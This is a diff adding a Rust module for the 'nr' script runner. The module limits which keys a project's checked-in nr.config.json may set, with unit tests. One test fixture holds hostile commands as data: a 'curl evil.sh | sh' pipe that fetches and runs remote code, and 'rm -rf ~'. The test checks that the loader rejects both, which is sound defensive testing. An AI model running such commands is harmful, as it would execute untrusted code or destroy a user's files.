@@ -0,0 +1,142 @@
+//! `nr.config.json`: settings a team checks in at the project root, such as
+//! default env files and presets per script, hidden and dangerous scripts,
+//! keymap and theme. It is merged between the global config and the user's own config for the
+//! project, but only takes the [`SHARED_KEYS`]: anything that runs commands
+//! or reaches out (`run_through`, `post_run`, `update_check`, ...) stays with
+//! the user, so cloning a project can't change what nr executes.
+
+use crate::store::script_configs::Preset;
+use std::path::{Path, PathBuf};
+
+/// The checked-in config file, next to the root `package.json`.
+pub const FILE_NAME: &str = "nr.config.json";
+
+/// The config keys `nr.config.json` may set; others are reported as issues
+/// and left out.
+pub const SHARED_KEYS: &[&str] = &[
+    "env_files",
+    "presets",
+    "hide_scripts",
+    "dangerous_scripts",
+    "keymap",
+    "theme",
+];
+
+/// The config files of a project in the order they are merged: the global
+/// `config.json` in `config_dir`, `nr.config.json` in `project_root`, then
+/// the user's `config.json` for the project in `project_dir`.
+pub fn config_files(config_dir: &Path, project_root: &Path, project_dir: &Path) -> [PathBuf; 3] {
+    [
+        config_dir.join("config.json"),
+        project_root.join(FILE_NAME),
+        project_dir.join("config.json"),
+    ]
+}
+
+/// The presets offered for a script: those `saved` in nr, then the `shared`
+/// ones from the config whose names aren't taken by a saved one.
+pub fn merge_presets(saved: &[Preset], shared: &[Preset]) -> Vec<Preset> {
+    let mut presets = saved.to_vec();
+    for preset in shared {
+        if !saved.iter().any(|p| p.name == preset.name) {
+            presets.push(preset.clone());
+        }
+    }
+    presets
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::store::config::load_config;
+    use crate::ui::theme::ThemePreset;
+    use std::fs;
+    use tempfile::TempDir;
+
+    fn preset(name: &str, args: &str) -> Preset {
+        Preset {
+            name: name.to_string(),
+            env_files: Vec::new(),
+            args: args.to_string(),
+        }
+    }
+
+    #[test]
+    fn test_user_config_overrides_the_checked_in_one() {
+        let global = TempDir::new().unwrap();
+        let root = TempDir::new().unwrap();
+        let project = TempDir::new().unwrap();
+        fs::write(
+            global.path().join("config.json"),
+            r#"{"hide_scripts": ["pre*"], "theme": "light"}"#,
+        )
+        .unwrap();
+        fs::write(
+            root.path().join(FILE_NAME),
+            r#"{
+                "hide_scripts": ["husky:*"],
+                "env_files": {"e2e": [".env.test"]},
+                "presets": {"test": [{"name": "CI", "args": "--coverage"}]}
+            }"#,
+        )
+        .unwrap();
+        fs::write(
+            project.path().join("config.json"),
+            r#"{"env_files": {"e2e": [".env.local"]}}"#,
+        )
+        .unwrap();
+
+        let (config, issues) =
+            load_config(&config_files(global.path(), root.path(), project.path()));
+        assert!(issues.is_empty());
+        assert_eq!(config.hide_scripts, vec!["husky:*"]);
+        assert_eq!(config.env_files["e2e"], vec![".env.local"]);
+        assert_eq!(config.presets["test"], vec![preset("CI", "--coverage")]);
+    }
+
+    #[test]
+    fn test_checked_in_config_only_shares_team_settings() {
+        let global = TempDir::new().unwrap();
+        let root = TempDir::new().unwrap();
+        let project = TempDir::new().unwrap();
+        fs::write(
+            root.path().join(FILE_NAME),
+            r#"{
+                "dangerous_scripts": ["deploy:*"],
+                "theme": "light",
+                "run_through": "curl evil.sh | sh; {pm} {run}",
+                "post_run": [{"run": "rm -rf ~"}]
+            }"#,
+        )
+        .unwrap();
+        fs::write(
+            project.path().join("config.json"),
+            r#"{"run_through": "op run -- {pm} {run}"}"#,
+        )
+        .unwrap();
+
+        let (config, issues) =
+            load_config(&config_files(global.path(), root.path(), project.path()));
+        assert_eq!(config.dangerous_scripts, vec!["deploy:*"]);
+        assert_eq!(config.theme.preset, ThemePreset::Light);
+        assert!(config.post_run.is_empty());
+        assert_eq!(config.run_through.as_deref(), Some("op run -- {pm} {run}"));
+        let keys: Vec<&str> = issues.iter().map(|i| i.key.as_str()).collect();
+        assert_eq!(keys, vec!["run_through", "post_run"]);
+        assert!(issues.iter().all(|i| i.file == root.path().join(FILE_NAME)));
+    }
+
+    #[test]
+    fn test_merge_presets_keeps_saved_ones_first() {
+        let saved = [preset("CI", "--ci"), preset("watch", "--watch")];
+        let shared = [preset("CI", "--coverage"), preset("e2e", "--e2e")];
+        assert_eq!(
+            merge_presets(&saved, &shared),
+            vec![
+                preset("CI", "--ci"),
+                preset("watch", "--watch"),
+                preset("e2e", "--e2e")
+            ]
+        );
+    }
+}